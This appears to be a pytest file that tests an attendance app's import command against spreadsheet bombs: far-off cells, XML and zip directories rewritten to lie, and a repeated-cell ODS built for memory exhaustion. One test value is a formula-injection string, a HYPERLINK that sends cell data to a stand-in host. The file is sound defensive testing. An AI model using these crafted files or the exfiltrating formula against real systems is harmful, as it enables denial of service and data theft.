"""Issue 14, finding 2: spreadsheet bombs are refused before the reader sees them, with a message
naming the file, the sheet, the limit and what was found; long error lists are cut short.

The files are crafted here as an attacker would: openpyxl for the stray cell, then the sheet's
XML or the zip's directory rewritten to lie.
"""

from __future__ import annotations

import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook

from attendance.store.models import Site
from tests.helpers import count_rows, site, write_sites

SHEET = "xl/worksheets/sheet1.xml"


def _book(path: Path, *far_cells: str) -> Path:
    book = Workbook()
    sheet = book.active
    sheet.title = "Điểm cầu"
    sheet.append(["site_code", "site_name", "province"])
    sheet.append(["A1", "Hội trường", "Huế"])
    for ref in far_cells:
        sheet[ref] = "x"
    book.save(path)
    return path


def _rewrite(path: Path, member: str, change) -> Path:
    """Copy the zip with one member's bytes changed."""
    out = path.with_name("crafted-" + path.name)
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dest:
        for item in source.infolist():
            data = source.read(item)
            dest.writestr(item, change(data) if item.filename == member else data)
    return out


def test_a_cell_at_xfd1048576_is_refused_without_an_abort(db, engine, tmp_path: Path):
    """Before: calamine asked for 512 GiB and the process died of SIGABRT with a Rust panic."""
    path = _book(tmp_path / "bomb.xlsx", "XFD1048576")
    assert path.stat().st_size < 10_000
    run = subprocess.run(
        [sys.executable, "-m", "attendance", "sites", "import", str(path), "--db", db],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert run.returncode == 2, run.stderr
    assert "panicked" not in run.stderr
    assert (
        f"{path}: sheet 'Điểm cầu' has a cell in column XFD (16,384), beyond the limit of 200 "
        "columns (imports.max_columns)"
    ) in run.stderr
    assert count_rows(engine, Site) == 0


IMPLIED = b'<row r="3">' + b'<c t="inlineStr"><is><t>x</t></is></c>' * 300 + b"</row>"


@pytest.mark.parametrize(
    ("change", "found"),
    [
        (lambda xml: xml, "column AAA (703)"),
        (lambda xml: xml.replace(b"A1:AAA30000", b"A1:C2"), "column AAA (703)"),  # a lie
        (lambda xml: re.sub(rb"<dimension [^>]*>", b"", xml), "column AAA (703)"),
        (lambda xml: re.sub(rb"<(/?)(worksheet|sheetData|row|c)\b", rb"<\1x:\2", xml)
         .replace(b"xmlns=", b"xmlns:x="), "column AAA (703)"),
        (lambda xml: xml.replace(b'r="AAA30000"', b"r = 'aaa30000'"),
         "column AAA (703)"),
        # Cells without `r` follow the one before: 300 of them in row 3, after C2.
        (lambda xml: re.sub(rb'<c r="AAA30000".*?</c>', b"", xml).replace(b"</sheetData>",
                                                                         IMPLIED + b"</sheetData>"),
         "column KQ (303)"),
    ],
    ids=["plain", "dimension lies", "no dimension", "prefixed tags", "quoting", "without r"],
)  # fmt: skip
def test_a_far_cell_is_found_however_the_sheet_is_written(cli, db, tmp_path, change, found):
    """The reader places cells by their `r` (or their order), never by `<dimension>`."""
    path = _rewrite(_book(tmp_path / "far.xlsx", "AAA30000"), SHEET, change)
    done = cli("sites", "import", path, "--db", db)
    assert done.code == 2
    assert f"has a cell in {found}, beyond the limit of 200 columns" in done.err, done.err


def test_rows_cells_and_bytes_limits_come_from_settings(cli, db, tmp_path, monkeypatch):
    path = _book(tmp_path / "rows.xlsx", "C40")
    monkeypatch.setenv("ATTENDANCE_IMPORTS_MAX_ROWS", "39")
    rows = cli("sites", "import", path, "--db", db)
    assert "has a cell in row 40, beyond the limit of 39 rows (imports.max_rows)" in rows.err
    monkeypatch.setenv("ATTENDANCE_IMPORTS_MAX_ROWS", "100")
    monkeypatch.setenv("ATTENDANCE_IMPORTS_MAX_CELLS", "100")
    cells = cli("sites", "import", path, "--db", db)
    assert "spans 40 rows × 3 columns, more than the limit of 100 cells" in cells.err
    big = write_sites(
        tmp_path / "big.csv", [site(f"S{n}", site_name="x" * 250) for n in range(4000)]
    )
    monkeypatch.setenv("ATTENDANCE_IMPORTS_MAX_UNPACKED_MB", "1")
    too_big = cli("sites", "import", big, "--db", db)
    assert too_big.code == 2
    assert re.search(r"big\.csv: 1\.\d MB, more than the limit of 1 MB", too_big.err)


def test_a_zip_that_lies_about_its_sizes_is_refused(cli, db, tmp_path: Path):
    path = _book(tmp_path / "lies.xlsx")
    data = bytearray(path.read_bytes())
    entry = next(
        found.start()
        for found in re.finditer(rb"PK\x01\x02", data)  # the central directory's entries
        if data[found.start() + 46 :].startswith(SHEET.encode())
    )
    declared = int.from_bytes(data[entry + 24 : entry + 28], "little")  # uncompressed size
    data[entry + 24 : entry + 28] = (declared // 2).to_bytes(4, "little")
    path.write_bytes(bytes(data))
    done = cli("sites", "import", path, "--db", db)
    assert done.code == 2
    assert f"{SHEET} declares {declared // 2:,} bytes but holds {declared:,}" in done.err


def test_an_ods_of_repeated_cells_is_refused(cli, db, tmp_path: Path):
    """One row repeated 30,000 times, of one cell repeated 700 times: 2.6 GB in the reader."""
    cell = '<table:table-cell office:value-type="string"><text:p>{}</text:p></table:table-cell>'
    header = "".join(cell.format(name) for name in ("site_code", "site_name", "province"))
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
        '<office:spreadsheet><table:table table:name="Trang 1">'
        f"<table:table-row>{header}</table:table-row>"
        '<table:table-row table:number-rows-repeated="30000">'
        + cell.replace(
            "<table:table-cell ", '<table:table-cell table:number-columns-repeated="700" '
        ).format("x")
        + '</table:table-row><table:table-row table:number-rows-repeated="1048000">'
        '<table:table-cell table:number-columns-repeated="16384"/></table:table-row>'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    path = tmp_path / "bomb.ods"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", content)
    done = cli("sites", "import", path, "--db", db)
    assert done.code == 2
    assert "sheet 'Trang 1' has a cell in column ZX (700), beyond the limit of 200" in done.err


def test_a_million_bad_rows_make_a_short_report(cli, db, tmp_path: Path):
    """Before: every duplicate was listed (999,999 lines) and a 32 KB cell echoed whole."""
    rows = [site("DUP", site_name="y" * 32_000)] + [site("DUP") for _ in range(2000)]
    done = cli("sites", "import", write_sites(tmp_path / "dups.csv", rows), "--db", db)
    assert done.code == 2
    assert "2001 problem(s) found, nothing was imported" in done.err
    listed = [line for line in done.err.splitlines() if line.startswith("  row ")]
    assert len(listed) == 100
    assert "  … and 1901 more (the first 100 are listed)" in done.err
    assert "'" + "y" * 79 + "…'" in done.err and "y" * 81 not in done.err
    assert len(done.err) < 20_000


def test_names_that_would_be_formulas_are_imported_with_a_warning(cli, db, engine, tmp_path):
    link = '=HYPERLINK("http://x/?"&A2,"Bấm")'
    rows = [site("F1", site_name=link), site("F2", district="@SUM(A1)"), site("F3")]
    done = cli("sites", "import", write_sites(tmp_path / "f.csv", rows), "--db", db)
    assert done.code == 0, done.err
    assert count_rows(engine, Site) == 3
    assert (
        f"note: row 2, column 'site_name', value {link!r}: begins with =, +, -, @, tab or CR"
    ) in done.out
    assert "note: row 3, column 'district', value '@SUM(A1)'" in done.out
